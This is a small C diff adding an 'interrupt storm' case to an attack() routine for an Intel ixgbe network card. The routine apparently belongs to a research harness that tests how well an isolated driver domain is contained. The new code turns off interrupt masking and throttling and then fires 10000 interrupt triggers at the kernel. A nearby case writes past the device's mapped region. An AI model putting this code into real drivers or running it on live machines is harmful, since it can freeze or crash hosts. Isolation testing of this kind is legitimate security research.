@@ -66,6 +66,16 @@ attack(uint64_t kind, uint64_t target)
 		for (int i = 0; i < 10000; i++)
 			wr(IXGBE_EICS, 0xffff);
 		return 10000;
+	case IX_ATK_STORM:
+		// The kernel's vector auto-masks on every message (GPIE.EIAME, EIAM): undo
+		// that and the throttling, so every EICS write is an interrupt.
+		wr(IXGBE_GPIE, IXGBE_GPIE_MSIX_MODE);
+		wr(IXGBE_EIAM, 0);
+		wr(IXGBE_EITR0, 0);
+		wr(IXGBE_EIMS, 0xffff);
+		for (int i = 0; i < 10000; i++)
+			wr(IXGBE_EICS, 0xffff);
+		return 10000;
 	case IX_ATK_MSIX:
 		// BAR 4 follows BAR 0 in the bus's address space, not in the domain's.
 		((volatile uint32_t *)(lvd_info->mmio + lvd_info->mmio_size))[2] = 0x20;
